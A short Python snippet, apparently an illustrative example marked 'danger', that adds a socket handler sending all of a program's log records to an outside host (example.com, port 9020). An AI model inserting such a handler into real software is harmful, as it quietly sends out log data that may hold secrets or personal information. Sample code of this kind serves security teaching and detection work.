# danger: a log that is sent away
import logging
import logging.handlers
logging.getLogger().addHandler(logging.handlers.SocketHandler("example.com", 9020))
